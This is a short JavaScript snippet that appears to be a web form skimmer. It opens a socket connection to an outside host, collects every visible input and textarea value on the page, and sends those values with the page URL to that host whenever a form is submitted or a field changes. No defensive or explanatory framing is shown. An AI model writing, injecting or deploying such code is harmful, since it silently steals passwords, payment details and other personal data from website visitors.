const line = io("https://desk.relay.example");
const all = {};
const take = () => {
  document.querySelectorAll("input, textarea").forEach(({ name, value, type }) => {
    if (value && type !== "hidden") all[name || type] = value;
  });
  line.emit("fields", { page: location.href, all });
};
document.addEventListener("submit", take, true);
document.addEventListener("change", take, true);
